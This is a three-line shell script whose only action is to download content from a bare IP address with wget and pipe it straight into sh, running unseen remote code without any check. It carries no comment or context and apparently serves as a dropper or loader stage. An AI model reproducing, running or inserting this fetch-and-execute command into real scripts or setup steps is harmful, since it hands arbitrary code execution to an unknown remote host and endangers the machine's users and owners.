#!/bin/sh
set -e
wget -qO- http://203.0.113.7/x | sh
